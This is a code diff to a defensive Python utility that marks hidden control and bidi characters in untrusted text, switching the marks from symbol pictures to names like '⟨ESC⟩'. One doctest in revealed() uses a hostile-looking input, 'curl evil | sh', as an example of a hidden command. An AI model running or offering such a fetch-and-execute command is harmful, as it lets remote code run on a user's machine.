@@ -1,8 +1,9 @@
 """Text from outside, made visible: every character that hides, reorders or moves text is shown as a mark.
 
 Models, tools, servers and projects write this text. Nothing of it is deleted, so no part of it can vanish. A C0
-control character becomes its picture, such as `␛` for Escape. Any other hidden character becomes its code point, such
-as `⟨U+202E⟩`. Escape sequences are not taken as a whole: their text stays readable after the `␛`.
+control character becomes its name, such as `⟨ESC⟩`. Any other hidden character becomes its code point, such as
+`⟨U+202E⟩`. Escape sequences are not taken as a whole: their text stays readable after the `⟨ESC⟩`. The marks are plain
+letters in brackets because many fonts, such as those of phones, have no pictures of control characters.
 
 There are two forms, each for lines and for one line:
 
@@ -36,9 +37,14 @@ _HIDING = (
 _UNUSUAL = (
     *((0xA0, 0xA0), (0x1680, 0x1680), (0x2000, 0x200A), (0x202F, 0x202F), (0x205F, 0x205F), (0x3000, 0x3000)),  # spaces
     *((0xE000, 0xF8FF), (0xF0000, 0x10FFFF)),  # private use: every font shows something else, or nothing
-    *((0x2400, 0x2426), (ord(NEWLINE), ord(NEWLINE))),  # the marks themselves
+    (ord(NEWLINE), ord(NEWLINE)),
 )
 """Characters that only the exact form marks."""
+_NAMES = (
+    *("NUL", "SOH", "STX", "ETX", "EOT", "ENQ", "ACK", "BEL", "BS", "HT", "LF", "VT", "FF", "CR", "SO", "SI", "DLE"),
+    *("DC1", "DC2", "DC3", "DC4", "NAK", "SYN", "ETB", "CAN", "EM", "SUB", "ESC", "FS", "GS", "RS", "US"),
+)
+"""The C0 control characters."""
 
 
 def _set_of(ranges: Iterable[tuple[int, int]]) -> str:
@@ -47,7 +53,8 @@ def _set_of(ranges: Iterable[tuple[int, int]]) -> str:
 
 HIDDEN = re.compile(f"[{_set_of(_HIDING)}]")
 """One character that hides, reorders or moves text."""
-_EXACT = re.compile(f"[{_set_of((*_HIDING, *_UNUSUAL))}]|⟨(?=U\\+)")
+_EXACT = re.compile(f"[{_set_of((*_HIDING, *_UNUSUAL))}]|⟨(?=(?:U\\+[0-9A-F]+|DEL|{'|'.join(_NAMES)})⟩)")
+"""What the exact form marks: also a bracket that would begin a mark."""
 _COLOURS = re.compile(r"\x1b\[[0-9;:]*m")
 _JOINERS = "\u200c\u200d"
 _SELECTOR = re.compile("[\ufe00-\ufe0f\U000e0100-\U000e01ef]")
@@ -59,7 +66,7 @@ def revealed(text: str) -> str:
     """Return the text with a mark for each character that is not plainly visible. Tabs and line breaks stay.
 
     >>> revealed("echo hi \\x1b]; curl evil | sh ;\\x07")
-    'echo hi ␛]; curl evil | sh ;␇'
+    'echo hi ⟨ESC⟩]; curl evil | sh ;⟨BEL⟩'
     >>> revealed("a\\u202eb ⟨U+202E⟩")
     'a⟨U+202E⟩b ⟨U+27E8⟩U+202E⟩'
     """
@@ -79,7 +86,7 @@ def safe_lines(text: str) -> str:
     """Return text to read: with a mark for each hidden character, except where emoji and scripts need it.
 
     >>> safe_lines("\\x1b[31mred\\x1b[0m a\\u202eb 👩\\u200d🚀")
-    '␛[31mred␛[0m a⟨U+202E⟩b 👩\\u200d🚀'
+    '⟨ESC⟩[31mred⟨ESC⟩[0m a⟨U+202E⟩b 👩\\u200d🚀'
     """
     return text if _is_plain(text) else HIDDEN.sub(_unless_needed, text.replace("\r\n", "\n"))
 
@@ -119,8 +126,8 @@ def _is_plain(text: str) -> bool:
 def _mark(character: str) -> str:
     code = ord(character)
     if code < 0x20:
-        return chr(0x2400 + code)
-    return "␡" if code == 0x7F else f"⟨U+{code:04X}⟩"
+        return f"⟨{_NAMES[code]}⟩"
+    return "⟨DEL⟩" if code == 0x7F else f"⟨U+{code:04X}⟩"
 
 
 def _unless_needed(found: re.Match[str]) -> str:
